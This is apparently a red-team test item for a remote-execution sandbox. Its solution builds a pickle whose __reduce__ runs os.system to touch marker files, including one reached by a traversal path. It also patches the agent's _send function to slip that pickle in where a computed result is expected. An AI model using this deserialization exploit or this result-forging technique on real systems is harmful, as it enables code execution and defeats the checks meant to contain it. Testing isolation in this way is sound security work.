"""A pickle that would run a command is returned, and sent raw where data is expected."""

CATEGORY = "Forge the result"
POINTS = 0
SOLUTION = """
import os, pickle, sys

class Bomb:
    def __reduce__(self):
        return (os.system, ('touch ../../../redteam_marker /tmp/redteam_marker',))
agent = sys.modules.get('attentif.remote.inside.agent')
if agent:
    blob = pickle.dumps(Bomb())
    send = agent._send
    agent._send = lambda c, m: send(
        c, m if b'hello' in m or b'pid' in m else agent.HEADER.pack(4, len(blob)) + b'null' + blob)
def center(X):
    return Bomb()
"""
